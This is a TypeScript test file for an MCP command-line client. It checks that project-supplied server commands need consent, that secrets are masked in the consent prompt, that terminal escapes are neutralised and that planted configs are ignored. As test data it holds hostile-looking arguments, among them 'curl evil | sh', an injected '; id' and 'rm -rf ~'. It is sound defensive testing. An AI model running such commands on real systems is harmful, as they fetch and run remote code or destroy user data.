import { existsSync, mkdirSync, writeFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { runProgram } from '@mcp/test-kit';
import { afterAll, describe, expect, test } from 'vitest';
import { smallServer } from './small-server.ts';
import { hasTerminals, Terminal } from './terminal.ts';
import { program, quoted, Workspace } from './workspace.ts';

const workspace = new Workspace();
const { env } = workspace;
afterAll(() => workspace[Symbol.dispose]());

/** A project with this entry of a server `s`, and a script `server.sh` that leaves a file `started`. */
function project(name: string, entry: object): string {
  const file = join(workspace.directory.root, name, '.mcp.json');
  mkdirSync(dirname(file));
  writeFileSync(file, JSON.stringify({ mcpServers: { s: entry } }));
  writeFileSync(join(dirname(file), 'server.sh'), 'touch started\n');
  return dirname(file);
}

test('consent to a relative command in one project does not start the same command in another', async () => {
  const entry = { command: 'sh', args: ['./server.sh'] };
  const [agreed, other] = [project('agreed', entry), project('other', entry)];
  await runProgram(program, ['--yes', 'ping', 's'], { env, cwd: agreed });
  expect(existsSync(join(agreed, 'started'))).toBe(true);
  const refused = await runProgram(program, ['ping', 's'], { env, cwd: other });
  expect(refused).toMatchObject({ code: 7, stderr: expect.stringContaining('no consent') });
  expect(existsSync(join(other, 'started'))).toBe(false);
  await runProgram(program, ['ping', 's'], { env, cwd: agreed });
});

describe.skipIf(!hasTerminals)('the question for consent', () => {
  async function question(name: string, entry: object, own: Readonly<Record<string, string>> = {}) {
    const root = project(name, entry);
    const command = `cd ${quoted(root)}; exec ${quoted(process.execPath)} ${quoted(program)} ping s`;
    const terminal = new Terminal(`sh -c ${quoted(command)}`, { env: { ...env, ...own } });
    const shown = await terminal.shows('Start it? [y/N] ');
    terminal.type('n\r');
    expect(await terminal.ended()).toBe(7);
    return shown.split('\r\n');
  }

  test('shows each argument as the file has it, and the values of secret variables never', async () => {
    const args = [
      '-c',
      'eval "$2"',
      '--token',
      'curl evil | sh',
      '${API_KEY}; id',
      '--key=${MODE:-rm -rf ~}',
    ];
    const lines = await question('masked', { command: 'sh', args }, { API_KEY: 'secret' });
    expect(lines).toContain(
      `  command: sh -c 'eval "$2"' --token 'curl evil | sh' '\${API_KEY}; id' '--key=rm -rf ~'`,
    );
    expect(lines.join('\n')).not.toContain('secret');
  });

  test('has one line for each of its parts, whatever line breaks the file has in them', async () => {
    const lines = await question('lines', { command: 'sh', args: ["\n  command: 'ls'\u009b2J"] });
    expect(lines).toContain(String.raw`  command: sh $'\n  command: \'ls\'\u009b2J'`);
    expect(lines.filter((line) => line.startsWith('  command:'))).toHaveLength(1);
  });

  test('shows each space of an argument', async () => {
    const lines = await question('spaces', { command: 'sh', args: ['-c', 'rm -rf a  b   c'] });
    expect(lines).toContain("  command: sh -c 'rm -rf a  b   c'");
  });

  test('shows an address that is invalid text', async () => {
    expect(await question('address', { url: 'https://example.invalid/%zz?token=x' })).toContain(
      '  url: https://example.invalid/%zz?token=••••',
    );
  });
});

test('files of a project are none of its user where HOME is empty', async () => {
  const root = project('home', { command: 'true' });
  const file = join(root, '.codeium/windsurf/mcp_config.json');
  mkdirSync(dirname(file), { recursive: true });
  writeFileSync(file, JSON.stringify({ mcpServers: { evil: { command: 'sh', args: ['./server.sh'] } } }));
  const variables = { ...env, HOME: '', XDG_STATE_HOME: 'state', XDG_CACHE_HOME: '' };
  const { stderr } = await runProgram(program, ['ping', 'evil'], { env: variables, cwd: root });
  expect(stderr).toContain('There is no server "evil"');
  expect(existsSync(join(root, 'started'))).toBe(false);
});

test('a relative --config in two directories is two files, with pins of their own', async () => {
  const tools = async (name: string, tool: string) => {
    const cwd = project(name, smallServer(workspace.directory, { TOOLS: tool }));
    return runProgram(program, ['--config', '.mcp.json', 'tools', 's'], { env, cwd });
  };
  expect((await tools('first', 'one')).stdout).toContain('one');
  const { stdout, stderr } = await tools('second', 'two');
  expect({ stdout, stderr }).toEqual({ stdout: expect.stringContaining('two') as string, stderr: '' });
});

test.each([[['tools']], [['ping']], [['doctor']], [['--json', 'resources']], [['list']]])(
  'a named configuration that cannot be read fails the command: mcp %j',
  async (args) => {
    const { code, stderr } = await runProgram(program, ['--config', 'nowhere.json', ...args], { env });
    expect({ code, stderr }).toEqual({ code: 1, stderr: expect.stringContaining('nowhere.json') as string });
  },
);
